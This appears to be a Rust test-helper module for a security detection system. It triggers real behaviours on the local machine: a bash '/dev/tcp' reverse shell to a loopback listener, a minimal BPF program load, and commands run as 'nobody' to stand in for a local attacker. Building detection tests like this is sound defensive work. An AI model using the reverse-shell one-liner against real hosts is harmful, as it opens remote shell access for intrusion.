//! Real behaviours the detections are about, done for real on this machine by a test:
//! a reverse shell on loopback, a BPF program load, a process of an unprivileged user.

use std::process::{Child, Command, Stdio};

/// A real reverse shell: `bash -i` with its stdio on a TCP connection to a loopback
/// listener of the test. Returns the shell (`bash -c`), the attacker's end of the
/// connection, and the listener's port.
pub fn dev_tcp_reverse_shell() -> (Child, std::net::TcpStream, u16) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let shell = Command::new("/bin/bash")
        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (conn, _) = listener.accept().unwrap();
    (shell, conn, port)
}

/// Loads a two-instruction socket filter (`r0 = 0; exit`) named `name` and closes it;
/// returns the descriptor number the load returned.
pub fn load_bpf(name: &[u8]) -> i64 {
    let insns: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
    let license = c"GPL";
    let mut attr = [0u8; 128];
    attr[0..4].copy_from_slice(&1u32.to_ne_bytes()); // BPF_PROG_TYPE_SOCKET_FILTER
    attr[4..8].copy_from_slice(&2u32.to_ne_bytes());
    attr[8..16].copy_from_slice(&(insns.as_ptr() as u64).to_ne_bytes());
    attr[16..24].copy_from_slice(&(license.as_ptr() as u64).to_ne_bytes());
    attr[48..48 + name.len()].copy_from_slice(name);
    let fd = unsafe { libc::syscall(libc::SYS_bpf, 5, attr.as_ptr(), attr.len()) };
    assert!(
        fd >= 0,
        "BPF_PROG_LOAD: {}",
        std::io::Error::last_os_error()
    );
    unsafe { libc::close(fd as i32) };
    fd
}

/// The uid of `nobody`, as this machine's account database has it.
pub fn nobody_uid() -> u32 {
    let out = Command::new("id").args(["-u", "nobody"]).output().unwrap();
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

/// A command that runs `program` as the unprivileged user `nobody` (group `nogroup`, no
/// supplementary groups): the local attacker of the threat model.
pub fn as_nobody(program: &str) -> Command {
    let mut c = Command::new("setpriv");
    c.args([
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        "--",
        program,
    ]);
    c
}
